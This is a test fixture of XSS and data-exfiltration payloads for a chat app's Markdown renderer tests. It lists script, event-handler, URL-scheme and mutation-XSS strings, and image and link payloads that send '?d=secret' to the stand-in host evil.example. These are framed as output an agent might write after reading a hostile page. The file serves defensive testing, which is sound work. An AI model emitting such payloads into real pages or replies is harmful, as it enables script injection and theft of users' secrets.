/**
 * The XSS corpus of the chat's Markdown tests: payloads that would run script or load a resource if
 * any got through, as an agent that read a hostile page might write them. Used by markdown.test.ts
 * (nothing executes, nothing loads, in both modes) and markdown-stream.test.ts (streamed, they render
 * exactly as the whole text does).
 */

/** What a payload that ran would set on `window`. */
export const FLAG = '__pedelecXss';
/** The script each payload tries to run. */
export const set = `window.${FLAG}=1`;
export const EVIL = 'https://evil.example';
/** Classic payloads: raw HTML, event handlers, URL schemes, mutation XSS, CSS, and Markdown forms of them. */
export const payloads = [
  `<script>${set}</script>`,
  `<img src=x onerror="${set}">`,
  `<svg onload="${set}">`,
  `<svg><script>${set}</script></svg>`,
  `<iframe src="javascript:${set}"></iframe>`,
  `<iframe srcdoc="<script>parent.${FLAG}=1</script>"></iframe>`,
  `<body onload="${set}">`,
  `<input autofocus onfocus="${set}">`,
  `<details open ontoggle="${set}"><summary>x</summary></details>`,
  `<video><source onerror="${set}"></video>`,
  `<audio src=x onerror="${set}"></audio>`,
  `<object data="javascript:${set}"></object>`,
  `<embed src="javascript:${set}">`,
  `<form action="javascript:${set}"><button>go</button></form>`,
  `<a href="javascript:${set}">click</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${set}">`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  `<svg><a xlink:href="javascript:${set}"><text x="20" y="20">x</text></a></svg>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${set}">`,
  `<base href="${EVIL}/">`,
  `<marquee onstart="${set}">x</marquee>`,
  `<div onclick="${set}">click me</div>`,
  `<style>@import '${EVIL}/import.css'; *{background:url(${EVIL}/bg.png)}</style>`,
  `<div style="background:url(${EVIL}/style.png)">styled</div>`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `\`<img src=x onerror="${set}">\` in code`,
  `[click](javascript:${set})`,
  `[click](JaVaScRiPt:${set})`,
  `[click](  javascript:${set})`,
  `[click](&#x6A;avascript:${set})`,
  `[click](java\u0000script:${set})`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wZWRlbGVjWHNzPTE8L3NjcmlwdD4=)`,
  `[ref][x]\n\n[x]: javascript:${set}`,
  `[click](${EVIL}/ "onmouseover=${set}")`,
  `<a href="${EVIL}/" ping="${EVIL}/ping" onmouseover="${set}">ping</a>`,
];
/** Exfiltration: an injected image (or resource) would carry the page's secrets to another host. */
export const exfiltration = [
  `![secret](${EVIL}/img.png?d=secret)`,
  `![secret][img]\n\n[img]: ${EVIL}/ref.png?d=secret`,
  `<img src="${EVIL}/raw.png?d=secret">`,
  `<img srcset="${EVIL}/srcset.png?d=secret 1x">`,
  `<picture><source srcset="${EVIL}/picture.png?d=secret"></picture>`,
  `<video poster="${EVIL}/poster.png?d=secret"></video>`,
  `<svg><image href="${EVIL}/svg.png?d=secret"></image></svg>`,
  `[![x](${EVIL}/nested.png?d=secret)](${EVIL}/)`,
  `[a link](${EVIL}/?d=secret)`,
  `<${EVIL}/autolink?d=secret>`,
  `${EVIL}/bare?d=secret`,
  `[mail](mailto:someone@example.com)`,
  `[relative](/steal?d=secret)`,
];
